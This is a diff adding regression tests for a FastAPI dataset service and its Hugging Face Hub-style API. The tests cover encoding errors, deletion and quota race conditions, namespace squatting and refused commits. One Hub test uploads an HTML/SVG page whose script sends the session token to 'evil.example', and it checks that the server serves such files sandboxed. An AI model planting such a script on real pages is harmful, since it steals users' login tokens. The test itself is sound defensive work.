@@ -4,8 +4,14 @@ The property is the same everywhere: no 5xx, and every 4xx says what is wrong.""
 
 from __future__ import annotations
 
+import base64
+import dataclasses
+import hashlib
 import io
 import json
+import os
+import threading
+import time
 
 import numpy as np
 import pytest
@@ -13,12 +19,17 @@ import pytest
 pytest.importorskip("fastapi")
 
 from fastapi.testclient import TestClient  # noqa: E402
+from httpx import Response  # noqa: E402
 from hypothesis import HealthCheck, given, settings  # noqa: E402
 from hypothesis import strategies as st  # noqa: E402
+from sqlalchemy import delete  # noqa: E402
 
+import server.app  # noqa: E402
+import server.hub_api  # noqa: E402
 from server.app import create_app  # noqa: E402
-from server.auth import create_token  # noqa: E402
+from server.auth import TokenNameError, create_token  # noqa: E402
 from server.config import Settings  # noqa: E402
+from server.db import DatasetRecord  # noqa: E402
 
 FUZZ = settings(
     max_examples=25,
@@ -353,3 +364,234 @@ def test_an_upload_of_split_arrays_keeps_its_own_test_split(client: TestClient) 
     summary = response.json()["summary"]
     assert summary["n"] == 41 and summary["splits"]["test"] == 11, summary
     assert summary["splits"]["train"] + summary["splits"]["val"] == 30, summary
+
+
+def test_a_refused_value_no_utf_8_can_carry_is_a_422(client: TestClient) -> None:
+    """Regression: JSON's escape of a lone surrogate ("\\ud800") is a string pydantic refuses, and echoing it back
+    made the 422 itself fail to encode (a 500, or a dropped connection)."""
+    for path in ("/v1/jobs", "/v1/recommend"):
+        response = client.post(path, content=b'{"dataset_id": "\\ud800"}', headers={"Content-Type": "application/json"})
+        assert response.status_code == 422, response.text
+        assert response.json()["detail"][0]["loc"] == ["body", "dataset_id"], response.text
+
+
+def test_a_job_racing_the_deletion_of_its_dataset_is_a_404_and_the_deletion_a_409(
+    app, client: TestClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Regression: a job created while its dataset was deleted (or a dataset deleted while a job on it was created)
+    broke the jobs' foreign key: a 500 for one of the two requests."""
+    rows = "\n".join(f"{i % 2}," + ",".join(str((i * j) % 5) for j in range(12)) for i in range(24)).encode()
+    dataset = client.post("/v1/datasets", files={"file": ("race.csv", rows)}).json()["id"]
+    create = app.state.jobs.create
+
+    def deleted_meanwhile(owner_id: str, dataset_id: str, *args, **kwargs):
+        with app.state.Session.begin() as session:
+            session.execute(delete(DatasetRecord).where(DatasetRecord.id == dataset_id))
+        return create(owner_id, dataset_id, *args, **kwargs)
+
+    monkeypatch.setattr(app.state.jobs, "create", deleted_meanwhile)
+    response = client.post("/v1/jobs", json={"dataset_id": dataset})
+    assert response.status_code == 404 and "no dataset" in response.json()["detail"], response.text
+    monkeypatch.undo()
+
+    dataset = client.post("/v1/datasets", files={"file": ("race.csv", rows)}).json()["id"]
+    assert client.post("/v1/jobs", json={"dataset_id": dataset}).status_code == 202
+    counts: list[str] = []
+    jobs_using = getattr(server.app, "jobs_using", None)
+
+    def missed_the_job(session, dataset_id: str) -> int:  # the job was created between the count and the delete
+        counts.append(dataset_id)
+        return 0 if len(counts) == 1 else jobs_using(session, dataset_id)
+
+    monkeypatch.setattr(server.app, "jobs_using", missed_the_job)
+    response = client.delete(f"/v1/datasets/{dataset}")
+    assert response.status_code == 409 and "is used by 1 job(s)" in response.json()["detail"], response.text
+    assert client.get(f"/v1/datasets/{dataset}").status_code == 200
+
+
+# ------------------------------------------------------------------------------------------------ the Hub API
+def hub_commit(client: TestClient, repo: str, files: dict[str, bytes], summary: str = "upload") -> Response:
+    """A commit as huggingface_hub sends it: a header line, then one base64 ``file`` line per file."""
+    lines = [{"key": "header", "value": {"summary": summary}}] + [
+        {"key": "file", "value": {"path": path, "content": base64.b64encode(data).decode(), "encoding": "base64"}}
+        for path, data in files.items()
+    ]
+    body = "\n".join(json.dumps(line) for line in lines).encode()
+    return client.post(
+        f"/api/models/{repo}/commit/main", content=body, headers={"Content-Type": "application/x-ndjson"}
+    )
+
+
+@pytest.fixture(scope="module")
+def hub_repo(client: TestClient) -> str:
+    response = client.post("/api/repos/create", json={"name": "hostile"})
+    assert response.status_code == 200, response.text
+    return response.json()["name"]
+
+
+def test_hub_files_are_served_so_that_a_browser_runs_none_of_them(client: TestClient, hub_repo: str) -> None:
+    """Regression: a tenant's x.html or x.svg came back as text/html or image/svg+xml on the service's own origin,
+    where its script could read the token the web pages keep in the tab."""
+    page = b"<script>fetch('https://evil.example/?' + sessionStorage.getItem('token'))</script>"
+    assert hub_commit(client, hub_repo, {"x.html": page, "x.svg": b"<svg>" + page + b"</svg>"}).status_code == 200
+    for name in ("x.html", "x.svg"):
+        response = client.get(f"/{hub_repo}/resolve/main/{name}")
+        assert response.status_code == 200 and response.content.startswith(b"<"), response.text
+        assert "sandbox" in response.headers["content-security-policy"], response.headers
+        assert response.headers["x-content-type-options"] == "nosniff", response.headers
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {"\ud800.bin": b"x"},  # a lone surrogate (JSON's "\ud800"): no UTF-8 answer can name it
+        {"a\nb.bin": b"x"},  # a control character: no URL of the Hub's reaches it
+        {"README.md": b'---\ntags:\n- "\\ud800"\n---\ncard\n'},  # YAML's escape of one, in the card's metadata
+    ],
+)
+def test_hub_text_that_no_answer_can_carry_is_refused_and_listings_stay_up(
+    client: TestClient, hub_repo: str, files: dict[str, bytes]
+) -> None:
+    """Regression: one tenant's commit of such a path or card value made GET /api/models (every public repo's files
+    and card) a 500 for every caller."""
+    response = hub_commit(client, hub_repo, files)
+    assert response.status_code in (200, 400), response.text
+    for path in ("/api/models", f"/api/models/{hub_repo}", f"/api/models/{hub_repo}/tree/main"):
+        assert client.get(path).status_code == 200, (path, client.get(path).text)
+    response = hub_commit(client, hub_repo, {"ok.bin": b"x"}, summary="\ud800")
+    assert response.status_code == 400 and "summary" in response.json()["error"], response.text
+    paths = json.dumps({"files": [{"path": path} for path in files]})  # asking how to send them was a 500 too
+    response = client.post(f"/api/models/{hub_repo}/preupload/main", content=paths.encode())
+    assert response.status_code in (200, 400), response.text
+
+
+def test_hub_refusals_answer_whatever_characters_the_request_named(client: TestClient, hub_repo: str) -> None:
+    """Regression: a NUL in a revision or file path went into the X-Error-Message header, which the HTTP server
+    refuses to send: the connection dropped with no answer."""
+    for path in (f"/api/models/{hub_repo}/revision/main%00", f"/{hub_repo}/resolve/main/x%00.bin"):
+        response = client.get(path)
+        assert response.status_code == 404, response.text
+        assert all(" " <= c <= "~" for c in response.headers["x-error-message"]), response.headers
+
+
+def test_a_hub_path_cannot_be_a_file_and_a_folder(client: TestClient, hub_repo: str) -> None:
+    """A repo holding both ``a`` and ``a/b`` cannot be downloaded (no folder holds a file and a folder of one name)."""
+    assert hub_commit(client, hub_repo, {"weights": b"x"}).status_code == 200
+    for files in ({"weights/extra.bin": b"x"}, {"deep/a": b"x", "deep/a/b": b"y"}):
+        response = hub_commit(client, hub_repo, files)
+        assert response.status_code == 400 and "both a file and a folder" in response.json()["error"], response.text
+
+
+@pytest.fixture
+def small_quota(app):
+    """TSHUB_TENANT_STORAGE_MB=0.15 for one test (monkeypatch cannot restore an attribute of ``app.state``)."""
+    settings = app.state.settings
+    app.state.settings = dataclasses.replace(settings, tenant_storage_mb=0.15)
+    yield
+    app.state.settings = settings
+
+
+def test_concurrent_uploads_and_hub_commits_of_a_tenant_stay_within_its_quota(
+    app, small_quota, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Regression: each request checked the quota against what was stored when it began, so a tenant's concurrent
+    uploads (8 of 0.27 MB under a 1 MB quota) or Hub commits (any number: no concurrency limit there) all passed."""
+    owner, token = create_token(app.state.Session, "quota-racer")
+    headers = {"Authorization": f"Bearer {token}"}
+    run = app.state.isolator.run
+
+    def stored_meanwhile(*args, **kwargs):  # another upload of this tenant lands while this one is parsed
+        with app.state.Session.begin() as session:
+            session.add(
+                DatasetRecord(owner_id=owner.id, filename="x.csv", raw_sha256="0", path="p", summary={}, bytes=150_000)
+            )
+        return run(*args, **kwargs)
+
+    monkeypatch.setattr(app.state.isolator, "run", stored_meanwhile)
+    rows = "\n".join(f"{i % 2}," + ",".join(str((i * j) % 5) for j in range(12)) for i in range(24)).encode()
+    response = TestClient(app, headers=headers).post("/v1/datasets", files={"file": ("quota.csv", rows)})
+    assert response.status_code == 413 and "storage quota exceeded" in response.json()["detail"], response.text
+    with app.state.Session.begin() as session:
+        session.execute(delete(DatasetRecord).where(DatasetRecord.owner_id == owner.id))
+
+    assert TestClient(app, headers=headers).post("/api/repos/create", json={"name": "race"}).status_code == 200
+    checked = server.hub_api.check_quota
+
+    def slow_check(*args) -> None:  # the two commits check before either stores
+        checked(*args)
+        time.sleep(1)
+
+    monkeypatch.setattr(server.hub_api, "check_quota", slow_check)
+    answers: list[int] = []
+
+    def push(name: str) -> None:
+        client = TestClient(app, headers=headers)
+        answers.append(hub_commit(client, "quota-racer/race", {name: os.urandom(100_000)}).status_code)
+
+    threads = [threading.Thread(target=push, args=(f"{n}.bin",)) for n in range(2)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert sorted(answers) == [200, 413], answers
+
+
+def test_a_token_cannot_be_named_after_another_tenants_hub_namespace(app, client: TestClient) -> None:
+    """Regression: a tenant could create repos under 'erin' before the operator created erin's token; erin could then
+    publish nothing under its own name, and the other tenant's repos showed as erin's."""
+    assert client.post("/api/repos/create", json={"name": "models", "organization": "erin"}).status_code == 200
+    for name in ("erin", "ERIN"):
+        with pytest.raises(TokenNameError, match="Hub namespace 'erin'"):
+            create_token(app.state.Session, name)
+
+
+def test_a_refused_hub_commit_stores_nothing(app, client: TestClient, hub_repo: str) -> None:
+    """Regression: a commit's files were stored before it was refused (a missing branch, or deleting a file that is
+    not there), named by no commit, so outside every quota and kept forever: a tenant could fill the disk."""
+    blobs = app.state.settings.storage / "hub" / "blobs"
+    for branch, extra in (("main", [{"key": "deletedFile", "value": {"path": "not-there"}}]), ("nobranch", [])):
+        content = os.urandom(1000)
+        lines = [
+            {"key": "header", "value": {"summary": "refused"}},
+            {"key": "file", "value": {"path": "big.bin", "content": base64.b64encode(content).decode()}},
+            *extra,
+        ]
+        body = "\n".join(json.dumps(line) for line in lines).encode()
+        response = client.post(f"/api/models/{hub_repo}/commit/{branch}", content=body)
+        assert response.status_code == 404, response.text
+        digest = hashlib.sha256(content).hexdigest()
+        assert not (blobs / digest[:2] / digest).exists(), branch
+
+
+def test_every_folder_id_is_its_files_listing_in_one_pass() -> None:
+    """Regression: each folder's id scanned the whole tree, so listing a public repo of 10,000 one-file folders cost
+    anyone 28 s of the API's CPU per request (0.24 s in one pass); the ids stay those the Hub's clients were given:
+    the sha1 of the folder's files' paths and blob ids, nested folders included."""
+    files = {f"d{i}/w.bin": {"oid": f"{i:040x}"} for i in range(50)}
+    files |= {"d7/sub/x": {"oid": "0" * 40}, "d7/sub/deeper/y": {"oid": "1" * 40}, "top.bin": {"oid": "2" * 40}}
+    oids = server.hub_api.folder_oids(files)
+    folders = {p.rsplit("/", k)[0] for p in files for k in range(1, p.count("/") + 1)}
+    assert oids.keys() == folders and "top.bin" not in oids
+    for folder in folders:
+        listing = sorted((p, e["oid"]) for p, e in files.items() if p.startswith(folder + "/"))
+        assert oids[folder] == hashlib.sha1(json.dumps(listing).encode()).hexdigest(), folder
+
+
+def test_an_upload_racing_the_deletion_of_its_twin_keeps_no_dataset_without_data(
+    app, client: TestClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Regression: a re-upload reuses the parsed file of an earlier upload of the same bytes; deleting that earlier
+    dataset while the re-upload was parsed removed the file, and the re-upload answered 201 for a dataset whose data
+    was gone ("missing from the server's storage" ever after)."""
+    rows = "\n".join(f"{i % 2}," + ",".join(str((i * j + 1) % 5) for j in range(12)) for i in range(24)).encode()
+    twin = client.post("/v1/datasets", files={"file": ("twin.csv", rows)}).json()["id"]
+    run = app.state.isolator.run
+
+    def deleted_meanwhile(*args, **kwargs):
+        ingested = run(*args, **kwargs)  # found the twin's parsed file
+        assert client.delete(f"/v1/datasets/{twin}").status_code == 204
+        return ingested
+
+    monkeypatch.setattr(app.state.isolator, "run", deleted_meanwhile)
+    response = client.post("/v1/datasets", files={"file": ("twin.csv", rows)})
+    assert response.status_code == 409 and "upload it again" in response.json()["detail"], response.text
